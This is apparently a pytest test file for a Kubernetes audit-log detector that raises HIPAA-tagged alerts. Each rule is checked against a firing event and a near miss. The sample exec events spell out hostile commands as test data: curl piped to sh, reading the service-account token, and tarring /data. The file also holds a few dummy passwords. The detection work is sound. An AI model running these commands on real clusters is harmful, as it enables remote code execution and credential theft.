"""Every built-in rule fires on a representative event and stays silent on a near miss."""

from __future__ import annotations

from typing import Any

import pytest

from kubehipaa.engines.auditlog import RULES, RULES_BY_ID, Detector, DetectorConfig
from kubehipaa.engines.auditlog.rules import is_control_plane, is_public_ip

from .helpers import at, event, raw_event

POD = {"kind": "Pod", "metadata": {"name": "p"}, "spec": {"containers": [{"name": "c", "image": "app:1"}]}}


def pod(**spec: Any) -> dict[str, Any]:
    return {"kind": "Pod", "metadata": {"name": "p"},
            "spec": {"containers": [{"name": "c", "image": "app:1", **spec.pop("container", {})}], **spec}}


def role(rules: list[dict[str, Any]]) -> dict[str, Any]:
    return {"kind": "ClusterRole", "metadata": {"name": "r"}, "rules": rules}


SA_CLINICAL = "system:serviceaccount:clinical:app"
KCM = "system:kube-controller-manager"

# rule id -> (events that must raise it, events that must not). Windowed rules get a burst.
FIRE: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    "KH-AUDLOG-001": ([raw_event("create", "roles", name="r")],
                      [raw_event("update", "clusterroles", ns=None, name="x", user=KCM)]),
    "KH-AUDLOG-002": ([raw_event("create", "clusterrolebindings", ns=None, name="b",
                                 body={"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}})],
                      [raw_event("create", "clusterrolebindings", ns=None, name="b",
                                 body={"roleRef": {"kind": "ClusterRole", "name": "view"}})]),
    "KH-AUDLOG-009": ([raw_event("create", "rolebindings", name="b", code=201,
                                 body={"roleRef": {"kind": "ClusterRole", "name": "admin"}})],
                      [raw_event("create", "rolebindings", name="b", code=201,
                                 body={"roleRef": {"kind": "ClusterRole", "name": "view"}})]),
    "KH-AUDLOG-003": ([raw_event("create", "clusterroles", ns=None, body=role([{"resources": ["*"], "verbs": ["get"]}]))],
                      [raw_event("create", "clusterroles", ns=None,
                                 body=role([{"apiGroups": ["*"], "resources": ["pods"], "verbs": ["get"]}]))]),
    "KH-AUDLOG-004": ([raw_event("create", "roles", body=role([{"resources": ["secrets"], "verbs": ["list"]}]))],
                      [raw_event("create", "roles", body=role([{"resources": ["configmaps"], "verbs": ["list"]}]))]),
    "KH-AUDLOG-005": ([raw_event("create", "roles", body=role([{"resources": ["pods/exec"], "verbs": ["create"]}]))],
                      [raw_event("create", "roles", body=role([{"resources": ["pods"], "verbs": ["get"]}]))]),
    "KH-AUDLOG-006": ([raw_event("create", "clusterroles", ns=None,
                                 body=role([{"resources": ["nodes/proxy"], "verbs": ["get"]}]))],
                      [raw_event("create", "clusterroles", ns=None,
                                 body=role([{"resources": ["nodes"], "verbs": ["get"]}]))]),
    "KH-AUDLOG-007": ([raw_event("create", "roles", body=role([{"resources": ["pods"], "verbs": ["delete"]}]))],
                      [raw_event("create", "roles", body=role([{"resources": ["pods"], "verbs": ["get"]}]))]),
    "KH-AUDLOG-008": ([raw_event("patch", "clusterroles", ns=None, name="system:node")],
                      [raw_event("patch", "clusterroles", ns=None, name="system:coredns")]),
    "KH-AUDLOG-010": ([raw_event(code=401, decision=None)], [raw_event(code=200)]),
    "KH-AUDLOG-011": ([raw_event(code=403, decision="forbid")], [raw_event(code=404)]),
    "KH-AUDLOG-012": ([raw_event(code=403, ip=f"10.0.0.{i}", time=at(1, i)) for i in range(10)],
                      [raw_event(code=403, ip="10.0.0.1", time=at(i * 2)) for i in range(10)]),
    "KH-AUDLOG-013": ([raw_event(code=401, user=f"u{i}", ip="10.9.9.9", time=at(1, i)) for i in range(10)],
                      [raw_event(code=401, user=f"u{i}", ip=f"10.9.9.{i}", time=at(1, i)) for i in range(10)]),
    "KH-AUDLOG-014": ([raw_event(code=403, user=f"u{i}", ip="8.8.8.8", time=at(1, i)) for i in range(10)],
                      [raw_event(code=403, user=f"u{i}", ip="10.8.8.8", time=at(1, i)) for i in range(10)]),
    "KH-AUDLOG-015": ([raw_event("create", "namespaces", ns=None, user="system:anonymous", code=201)],
                      [raw_event("get", None, user="system:anonymous", uri="/healthz")]),
    "KH-AUDLOG-016": ([raw_event(user="system:anonymous", code=403, decision="forbid", ip="203.0.113.5")],
                      [raw_event(user="system:anonymous", ip="127.0.0.1")]),
    "KH-AUDLOG-017": ([raw_event(impersonate="system:admin")], [raw_event()]),
    "KH-AUDLOG-019": ([{**raw_event(), "impersonatedUser": {"username": "x", "groups": ["system:masters"]}}],
                      [raw_event(impersonate="alice@hospital.org")]),
    "KH-AUDLOG-018": ([raw_event(groups=["incident-responders", "system:authenticated"])], [raw_event()]),
    "KH-AUDLOG-020": ([raw_event("get", "secrets", name="db")], [raw_event("get", "secrets", name="db", user=SA_CLINICAL)]),
    "KH-AUDLOG-021": ([raw_event("list", "secrets", ns=None)], [raw_event("list", "secrets")]),
    "KH-AUDLOG-022": ([raw_event("get", "secrets", name=f"s{i}", time=at(1, i)) for i in range(15)],
                      [raw_event("get", "secrets", name="same", time=at(1, i)) for i in range(15)]),
    "KH-AUDLOG-023": ([raw_event("get", "secrets", name="a", time=at(0)),
                       raw_event("get", "secrets", name="a", user="mallory@x.org", time="2026-11-27T12:00:00Z")],
                      [raw_event("get", "secrets", name="a", time=at(0)),
                       raw_event("get", "secrets", name="a", time="2026-11-27T12:00:00Z")]),
    "KH-AUDLOG-024": ([raw_event("get", "secrets", name=f"s{i}", code=403, time=at(1, i)) for i in range(5)],
                      [raw_event("get", "secrets", name="s", code=403, user="system:kube-scheduler", ns="kube-system",
                                 time=at(1, i)) for i in range(5)]),
    "KH-AUDLOG-026": ([raw_event("get", "secrets", name="db", user=SA_CLINICAL, time=at(0)),
                       *(raw_event("get", "secrets", ns=f"ns{i}", name="db", user=SA_CLINICAL, time=at(5, i))
                         for i in range(10))],
                      [*(raw_event("get", "secrets", ns=f"ns{i}", name="db", user=SA_CLINICAL, time=at(m, i))
                         for m in (0, 5) for i in range(10))]),
    "KH-AUDLOG-025": ([raw_event("delete", "secrets", name="s")], [raw_event("delete", "secrets", name="s", ns="kube-system")]),
    "KH-AUDLOG-030": ([raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=sh")],
                      [raw_event("create", "pods", sub="exec", name="p", code=403, decision="forbid")]),
    "KH-AUDLOG-031": ([raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=sh&command=-c&command=curl%20x")],
                      [raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=ls")]),
    "KH-AUDLOG-037": ([raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=sh&command=-c"
                                     "&command=curl%20-s%20http%3A%2F%2Fx%20%7C%20sh")],
                      [raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=sh&command=-c&command=curl%20x")]),
    "KH-AUDLOG-032": ([raw_event("create", "pods", sub="exec", name="p", code=101,
                                 body={"command": ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]})],
                      [raw_event("create", "pods", sub="exec", name="p", code=101, body={"command": ["ls"]})]),
    "KH-AUDLOG-033": ([raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=tar&command=cf&command=-&command=/data")],
                      [raw_event("create", "pods", sub="exec", name="p", code=101,
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=tar&command=xf&command=-")]),
    "KH-AUDLOG-034": ([raw_event("create", "pods", sub="portforward", name="p")],
                      [raw_event("create", "pods", sub="portforward", name="p", code=403)]),
    "KH-AUDLOG-035": ([raw_event("patch", "pods", sub="ephemeralcontainers", name="p")],
                      [raw_event("get", "pods", sub="ephemeralcontainers", name="p")]),
    "KH-AUDLOG-036": ([raw_event("get", "nodes", ns=None, sub="proxy", name="n1")],
                      [raw_event("get", "nodes", ns=None, sub="proxy", name="n1", user="system:kube-scheduler")]),
    "KH-AUDLOG-040": ([raw_event("create", "pods", code=201, body=pod(container={"securityContext": {"privileged": True}}))],
                      [raw_event("create", "pods", code=201, body=POD)]),
    "KH-AUDLOG-041": ([raw_event("create", "pods", code=201, body=pod(hostPID=True))],
                      [raw_event("create", "pods", code=201, body=POD)]),
    "KH-AUDLOG-042": ([raw_event("create", "pods", code=201,
                                 body=pod(volumes=[{"name": "v", "hostPath": {"path": "/var/run/docker.sock"}}]))],
                      [raw_event("create", "pods", code=201, body=pod(volumes=[{"name": "v", "emptyDir": {}}]))]),
    "KH-AUDLOG-043": ([raw_event("create", "pods", code=201,
                                 body=pod(container={"securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}}))],
                      [raw_event("create", "pods", code=201,
                                 body=pod(container={"securityContext": {"capabilities": {"add": ["CHOWN"]}}}))]),
    "KH-AUDLOG-044": ([raw_event("create", "pods", ns="kube-system", code=201, body=POD)],
                      [raw_event("create", "pods", ns="kube-system", code=201, user="system:serviceaccount:kube-system:x",
                                 body=pod(container={"image": "registry.k8s.io/kube-proxy:v1.30"}))]),
    "KH-AUDLOG-045": ([raw_event("create", "serviceaccounts", ns="kube-public", name="sa", code=201)],
                      [raw_event("create", "serviceaccounts", name="sa", code=201)]),
    "KH-AUDLOG-046": ([raw_event("create", "services", code=201, body={"spec": {"type": "NodePort"}})],
                      [raw_event("create", "services", code=201, body={"spec": {"type": "ClusterIP"}})]),
    "KH-AUDLOG-047": ([raw_event("update", "configmaps", name="c", body={"data": {"db": "password=hunter2"}})],
                      [raw_event("update", "configmaps", name="c", body={"data": {"color": "blue"}})]),
    "KH-AUDLOG-048": ([raw_event("create", "ingresses", code=201, body={"spec": {"rules": []}})],
                      [raw_event("create", "ingresses", code=201, body={"spec": {"tls": [{"hosts": ["a"]}]}})]),
    "KH-AUDLOG-049": ([raw_event("patch", "cronjobs", name="c")], [raw_event("get", "cronjobs", name="c")]),
    "KH-AUDLOG-050": ([raw_event("create", "daemonsets", name="d", code=201)],
                      [raw_event("create", "daemonsets", name="d", ns="kube-system", code=201,
                                 user="system:serviceaccount:kube-system:daemon-set-controller")]),
    "KH-AUDLOG-060": ([raw_event("create", "serviceaccounts", sub="token", name="app", code=201)],
                      [raw_event("create", "serviceaccounts", sub="token", name="app", code=201, user="system:node:n1")]),
    "KH-AUDLOG-061": ([raw_event("update", "certificatesigningrequests", ns=None, sub="approval", name="c")],
                      [raw_event("update", "certificatesigningrequests", ns=None, sub="approval", name="c",
                                 user="system:serviceaccount:kube-system:certificate-controller")]),
    "KH-AUDLOG-062": ([raw_event("create", "certificatesigningrequests", ns=None, code=201,
                                 body={"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}})],
                      [raw_event("create", "certificatesigningrequests", ns=None, code=201,
                                 body={"spec": {"signerName": "kubernetes.io/kubelet-serving"}})]),
    "KH-AUDLOG-070": ([raw_event("create", "validatingwebhookconfigurations", ns=None, name="w", code=201)],
                      [raw_event("create", "validatingwebhookconfigurations", ns=None, name="w", code=409)]),
    "KH-AUDLOG-071": ([raw_event("delete", "mutatingwebhookconfigurations", ns=None, name="w")],
                      [raw_event("get", "mutatingwebhookconfigurations", ns=None, name="w")]),
    "KH-AUDLOG-075": ([raw_event("delete", "validatingwebhookconfigurations", ns=None, name="w")],
                      [raw_event("patch", "validatingwebhookconfigurations", ns=None, name="w")]),
    "KH-AUDLOG-072": ([raw_event("patch", "configmaps", ns="kube-system", name="audit-policy")],
                      [raw_event("patch", "configmaps", ns="kube-system", name="coredns")]),
    "KH-AUDLOG-073": ([raw_event("deletecollection", "events")],
                      [raw_event("deletecollection", "events", user="system:serviceaccount:kube-system:namespace-controller")]),
    # a different request (another verb and URI) reusing an auditID fires; the stages of one request, and the
    # same line logged twice, do not
    "KH-AUDLOG-074": ([raw_event("get", "pods", name="p", audit_id="shared"),
                       raw_event("create", "pods", sub="exec", name="p", code=101, audit_id="shared",
                                 uri="/api/v1/namespaces/clinical/pods/p/exec?command=sh")],
                      [raw_event("create", "pods", sub="exec", name="p", audit_id="one", stage="RequestReceived"),
                       raw_event("create", "pods", sub="exec", name="p", code=101, audit_id="one",
                                 stage="ResponseStarted"),
                       raw_event("create", "pods", sub="exec", name="p", code=101, audit_id="one"),
                       raw_event("create", "pods", sub="exec", name="p", code=101, audit_id="one")]),
    "KH-AUDLOG-090": ([raw_event("delete", "deployments", name="d")], [raw_event("update", "deployments", name="d")]),
}
PHI_RULE = "KH-AUDLOG-080"


def test_every_rule_has_a_case() -> None:
    # The built-in catalog (`RULES`): `RULES_BY_ID` also gains Sigma rules once Sigma rules are registered.
    assert set(FIRE) | {PHI_RULE} == {r.id for r in RULES}


@pytest.mark.parametrize("rule_id", sorted(FIRE))
def test_rule_fires_and_near_miss_is_silent(rule_id: str) -> None:
    from kubehipaa.engines.auditlog import event_from_dict

    fire, silent = FIRE[rule_id]
    rule = RULES_BY_ID[rule_id]
    fired = Detector([rule]).process_all(event_from_dict(e) for e in fire)
    assert [a.rule_id for a in fired] == [rule_id], fired
    assert fired[0].message and fired[0].severity == rule.severity and fired[0].hipaa == rule.hipaa
    quiet = Detector([rule]).process_all(event_from_dict(e) for e in silent)
    assert quiet == [], quiet


def test_phi_in_bodies_is_reported_redacted() -> None:
    pytest.importorskip("kubehipaa.engines.phi")
    ssn = "123-45-6789"
    body = {"kind": "ConfigMap", "metadata": {"name": "c"}, "data": {"patient": f"Jane Roe SSN {ssn}"}}
    alerts = Detector([RULES_BY_ID[PHI_RULE]]).process_all([event("create", "configmaps", body=body)])
    assert [a.rule_id for a in alerts] == [PHI_RULE]
    text = str(alerts[0].to_dict())
    assert "ssn" in text and "requestObject.data.patient" in text
    assert ssn not in text and "6789" not in text
    # reads: the response body; a harmless body is silent
    resp = {"kind": "ConfigMap", "data": {"p": f"SSN {ssn}"}}
    assert Detector([RULES_BY_ID[PHI_RULE]]).process_all([event("get", "configmaps", response=resp)])
    assert not Detector([RULES_BY_ID[PHI_RULE]]).process_all([event("create", "configmaps", body=POD)])


def test_secret_bodies_are_not_scanned_for_phi() -> None:
    body = {"kind": "Secret", "stringData": {"p": "SSN 123-45-6789"}}
    assert not Detector([RULES_BY_ID[PHI_RULE]]).process_all([event("create", "secrets", body=body)])


def test_break_glass_identities_come_from_config() -> None:
    from kubehipaa.config import Config

    cfg = Config.model_validate({"break_glass": {"groups": ["sre-emergency"], "users": ["root@hospital.org"]}})
    det = Detector([RULES_BY_ID["KH-AUDLOG-018"]], DetectorConfig.from_config(cfg))
    alerts = det.process_all([event(groups=["sre-emergency"]), event(user="root@hospital.org"),
                              event(groups=["incident-responders"])])
    assert len(alerts) == 2  # the default group no longer counts once the config names its own
    assert "root@hospital.org" in alerts[1].message


def test_windowed_rule_alerts_once_per_burst_and_again_after_quiet_period() -> None:
    det = Detector([RULES_BY_ID["KH-AUDLOG-012"]])
    burst = [event(code=403, time=at(1, i)) for i in range(25)]
    assert len(det.process_all(burst)) == 1
    later = [event(code=403, time=at(30, i)) for i in range(10)]
    assert len(det.process_all(later)) == 1


def test_windowed_state_is_bounded() -> None:
    det = Detector([RULES_BY_ID["KH-AUDLOG-013"], RULES_BY_ID["KH-AUDLOG-022"]], DetectorConfig(max_keys=100))
    for i in range(5000):
        det.process(event(code=403, ip=f"10.{i // 250}.{i % 250}.1", time=at(1)))
        det.process(event("get", "secrets", name=f"s{i}", user=f"user{i}@x.org", time=at(2)))
    for state in det._state.values():
        tables = [v for v in vars(state).values() if isinstance(v, dict)] if hasattr(state, "__dict__") else []
        assert all(len(t) <= 100 for t in tables), [len(t) for t in tables]


def test_first_seen_waits_for_learning_period() -> None:
    det = Detector([RULES_BY_ID["KH-AUDLOG-023"]])
    early = [event("get", "secrets", name="a", user=f"u{i}@x.org", time=at(i)) for i in range(3)]
    assert det.process_all(early) == []
    late_known = event("get", "secrets", name="a", user="u1@x.org", time="2026-11-27T13:00:00Z")
    late_new_ip = event("get", "secrets", name="a", user="u1@x.org", ip="10.66.66.66", time="2026-11-27T13:01:00Z")
    late_new_user = event("get", "secrets", name="a", user="eve@x.org", time="2026-11-27T13:02:00Z")
    msgs = [a.message for a in det.process_all([late_known, late_new_ip, late_new_user])]
    assert len(msgs) == 2 and "new source 10.66.66.66" in msgs[0] and "first time" in msgs[1]


def test_platform_identities() -> None:
    assert is_control_plane("system:kube-controller-manager")
    assert is_control_plane("system:serviceaccount:kube-system:replicaset-controller")
    assert not is_control_plane("system:serviceaccount:clinical:app")
    assert not is_control_plane("system:anonymous")
    assert is_control_plane("eks:addon-manager")
    assert is_public_ip("8.8.8.8") and not is_public_ip("10.0.0.1") and not is_public_ip("100.64.1.1")
    assert not is_public_ip("not-an-ip")


def test_exec_command_secrets_are_masked() -> None:
    ev = event("create", "pods", sub="exec", name="p", code=101,
               uri="/api/v1/namespaces/clinical/pods/p/exec?command=mysql&command=-pS3cretPW&command=--password"
                   "&command=hunter2&command=TOKEN%3Dabc")
    alerts = Detector([RULES_BY_ID["KH-AUDLOG-030"], RULES_BY_ID["KH-AUDLOG-031"]]).process_all([ev])
    text = " ".join(a.message for a in alerts)
    assert len(alerts) == 2 and "mysql" in text
    assert "S3cretPW" not in text and "hunter2" not in text and "abc" not in text


def test_rules_catalog_documents_logic() -> None:
    assert len(RULES) >= 25
    for r in RULES:
        d = r.to_dict()
        assert d["logic"] and d["hipaa"] and d["severity"] in ("low", "medium", "high", "critical")


def test_docs_list_every_rule() -> None:
    from pathlib import Path

    doc = (Path(__file__).resolve().parents[2] / "docs" / "audit-log.md").read_text()
    missing = [r.id for r in RULES if f"| {r.id} |" not in doc]
    assert not missing, f"docs/audit-log.md lacks {missing}"


def test_kubelet_reading_many_secrets_is_not_a_burst() -> None:
    det = Detector([RULES_BY_ID["KH-AUDLOG-022"], RULES_BY_ID["KH-AUDLOG-024"]])
    reads = [event("get", "secrets", name=f"s{i}", user="system:node:n1", groups=["system:nodes"], time=at(1, i))
             for i in range(40)]
    denied = [event("get", "secrets", name=f"s{i}", code=403, user="system:node:n1", time=at(2, i)) for i in range(10)]
    assert det.process_all(reads + denied) == []


def test_unnamed_401s_are_not_one_user() -> None:
    det = Detector([RULES_BY_ID["KH-AUDLOG-012"]])
    anon_401 = [event(code=401, decision=None, user="", ip=f"10.0.0.{i}", time=at(1, i)) for i in range(20)]
    assert det.process_all(anon_401) == []


def test_hooks_see_each_request_once() -> None:
    from kubehipaa.engines.auditlog import Alert
    from kubehipaa.model import Severity

    seen: list[str] = []

    def hook(ev: Any) -> list[Alert]:
        seen.append(ev.auditID)
        return [Alert("X-1", "x", Severity.LOW, (), "m", ev.time, ev.auditID or "", ev.username, "", "", "", "", "")]

    det = Detector([RULES_BY_ID["KH-AUDLOG-020"]])
    det.add_hook(hook)
    first = raw_event("get", "secrets", name="s", audit_id="r1", stage="RequestReceived")
    alerts = det.process_all([event_from(first), event_from(raw_event("get", "secrets", name="s", audit_id="r1")),
                              event_from(raw_event("get", "pods", audit_id="r2"))])
    assert seen == ["r1", "r2"]
    assert sorted(a.rule_id for a in alerts) == ["KH-AUDLOG-020", "X-1", "X-1"]
    assert det.stats.alerts["X-1"] == 2


def event_from(raw: dict[str, Any]) -> Any:
    from kubehipaa.engines.auditlog import event_from_dict

    return event_from_dict(raw)
